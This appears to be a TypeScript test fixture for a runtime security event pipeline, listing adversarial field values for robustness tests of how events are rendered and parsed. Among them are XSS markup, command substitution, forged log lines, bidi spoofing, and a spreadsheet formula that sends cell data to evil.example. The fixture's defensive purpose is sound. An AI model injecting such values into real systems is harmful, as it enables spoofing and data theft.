import type { Act } from './act';

/** Where a hostile value is put. */
export type HostileField = 'proc.cmdline' | 'fd.name' | 'user.name';

export interface HostileValue {
  readonly name: string;
  readonly field: HostileField;
  readonly value: string;
}

/** Values that an attacker could choose to mislead whatever reads the event. One an hour, in turn. */
export const HOSTILE_VALUES: readonly HostileValue[] = [
  { name: 'quotes', field: 'proc.cmdline', value: `sh -c echo "it's" 'a "test"' \`id\`` },
  { name: 'backslashes', field: 'fd.name', value: '/root/C:\\temp\\new\\\\share\\"x' },
  { name: 'template', field: 'proc.cmdline', value: 'sh -c echo ${HOME} ${__from} $__interval {{ .Labels.rule }} [[var]]' },
  { name: 'markup', field: 'proc.cmdline', value: 'sh -c <script>alert(1)</script><img src=x onerror=alert(2)> &amp;' },
  { name: 'bidi', field: 'fd.name', value: '/root/report\u202efdp.exe\u2066' },
  { name: 'ansi', field: 'proc.cmdline', value: 'sh -c printf \u001b[31mred\u001b[0m\u001b]0;title\u0007' },
  { name: 'new lines', field: 'proc.cmdline', value: 'sh -c cat <<EOF\n12:00:00.000000000: Critical fake event | user=root\r\nEOF' },
  { name: 'separators', field: 'proc.cmdline', value: 'sh -c a=1 b=2 | tee (x) | user=root container_id=fake) | k=v' },
  { name: 'accents', field: 'fd.name', value: '/root/Müller & Søn/naïve–façade.txt' },
  { name: 'scripts', field: 'proc.cmdline', value: 'sh -c grep パスワード /etc/秘密 /etc/пароль' },
  { name: 'emoji', field: 'fd.name', value: '/root/🦊/👩‍💻.sh' },
  { name: 'formula', field: 'proc.cmdline', value: '=HYPERLINK("https://evil.example/?x="&A1,"open")' },
  { name: 'empty', field: 'fd.name', value: '' },
  { name: 'placeholder', field: 'user.name', value: '<NA>' },
  { name: 'control', field: 'user.name', value: 'ro\u0000ot\u0008\u2028' },
  { name: 'long', field: 'proc.cmdline', value: `python3 -c ${'exec(bytes.fromhex("deadbeef"));'.repeat(160)}` },
  { name: 'query', field: 'fd.name', value: '/root/"} |~ `.*` or {rule!="' },
  { name: 'regex', field: 'proc.cmdline', value: 'sh -c grep -E ^(a|b).*[0-9]+$ \\d{3}? file.log' },
];

/** What happens with such a value; `fd.name` goes with the one that prints a file. */
export const HOSTILE_ACTS: Readonly<Record<HostileField, Act>> = {
  'proc.cmdline': { rule: 'Run shell untrusted', run: ['/bin/sh'], call: 'execve' },
  'fd.name': { rule: 'Write below root', run: ['/bin/sh -c ./probe', '/usr/bin/touch x'], call: 'openat' },
  'user.name': { rule: 'Run shell untrusted', from: 'exec', run: ['/bin/sh'], call: 'execve' },
};
